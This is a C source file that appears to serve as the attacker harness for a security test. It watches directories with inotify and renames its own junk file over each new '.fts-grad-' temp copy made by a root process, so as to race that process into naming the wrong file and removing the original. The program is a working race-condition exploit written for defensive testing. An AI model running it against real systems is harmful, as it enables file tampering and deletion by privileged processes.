/*
 * The attacker of member-attacks.test.ts: a household member who watches folders of space (inotify) and, for
 * every new `.fts-grad-*` temp copy it sees, writes its own file and renames it over root's copy, so that root
 * would name the member's file and remove the original. Folders it cannot enter (root's 0700 staging folder)
 * it cannot watch either. On SIGTERM it prints how many temps it saw and exits.
 *
 * Usage: swap-temps DIR [DIR ...]
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

static volatile sig_atomic_t stopping = 0;
static void on_term(int sig) {
  (void)sig;
  stopping = 1;
}

int main(int argc, char **argv) {
  struct sigaction sa;
  memset(&sa, 0, sizeof sa);
  sa.sa_handler = on_term;
  sigaction(SIGTERM, &sa, NULL);
  int in = inotify_init1(0);
  const char *dirs[64];
  int wds[64], n = 0;
  for (int i = 1; i < argc && n < 64; i++) {
    int wd = inotify_add_watch(in, argv[i], IN_CREATE | IN_MOVED_TO);
    if (wd >= 0) {
      dirs[n] = argv[i];
      wds[n++] = wd;
    }
  }
  printf("ready\n");
  fflush(stdout);
  char buf[65536], path[4096], mine[4096];
  unsigned long seen = 0;
  while (!stopping) {
    ssize_t got = read(in, buf, sizeof buf);
    if (got <= 0) break;
    for (char *p = buf; p < buf + got;) {
      struct inotify_event *e = (struct inotify_event *)p;
      p += sizeof *e + e->len;
      if (!e->len || strncmp(e->name, ".fts-grad-", 10) != 0) continue;
      const char *dir = NULL;
      for (int i = 0; i < n; i++)
        if (wds[i] == e->wd) dir = dirs[i];
      if (!dir) continue;
      snprintf(path, sizeof path, "%s/%s", dir, e->name);
      snprintf(mine, sizeof mine, "%s/.mine-%lu", dir, seen++);
      int f = open(mine, O_WRONLY | O_CREAT | O_EXCL, 0644);
      if (f < 0) continue;
      if (write(f, "attacker junk\n", 14) != 14) {
        close(f);
        continue;
      }
      close(f);
      rename(mine, path);
    }
  }
  printf("{\"seen\":%lu}\n", seen);
  return 0;
}
